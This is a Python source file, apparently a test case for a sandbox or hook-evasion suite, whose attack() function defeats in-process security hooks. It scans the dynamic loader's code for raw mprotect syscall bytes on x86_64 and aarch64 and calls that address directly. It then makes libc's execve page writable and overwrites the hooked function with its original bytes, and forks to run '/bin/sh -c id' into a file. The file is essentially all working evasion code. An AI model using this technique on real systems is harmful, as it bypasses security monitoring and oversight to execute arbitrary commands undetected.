"""The loader has an mprotect() of its own, which no symbol names: found by its bytes, called by address."""

import ctypes
import os
import platform

from libc_file import address_of, original, page_of, segments

AT_BASE = 7
# mov eax, 10; syscall · mov x8, #226; svc #0
CODE = {"x86_64": b"\xb8\x0a\x00\x00\x00\x0f\x05", "aarch64": bytes.fromhex("481c80d2010000d4")}


def attack(event):
    us = ctypes.CDLL(None)
    us.getauxval.restype = ctypes.c_uint64
    base = us.getauxval(ctypes.c_uint64(AT_BASE))
    us.dladdr.restype = ctypes.c_int
    path = os.path.realpath("/proc/self/exe")
    loader = os.path.realpath(interpreter(path))
    text = next(one for one in segments(loader) if one[0] & 1)
    code = ctypes.string_at(base + text[2], text[3])
    found = base + text[2] + code.index(CODE[platform.machine()])
    mprotect = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)(found)
    at = address_of("execve")
    mprotect(page_of(at), 8192, 7)
    ctypes.memmove(at, original("execve"), 32)
    kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", ("id >%s" % event["out"]).encode(), None)
    nothing = (ctypes.c_char_p * 1)(None)
    child = os.fork()
    if child == 0:
        kind(at)(b"/bin/sh", words, nothing)
        os._exit(1)
    os.waitpid(child, 0)


def interpreter(path):
    """The loader a program names."""
    import struct

    with open(path, "rb") as file:
        head = file.read(64)
        at, size, count = struct.unpack_from("<Q14xHH", head, 32)
        for number in range(count):
            file.seek(at + number * size)
            kind, _, offset, _, _, in_file = struct.unpack_from("<IIQQQQ", file.read(size))
            if kind == 3:
                file.seek(offset)
                return file.read(in_file).rstrip(b"\0").decode()
    raise LookupError(path)
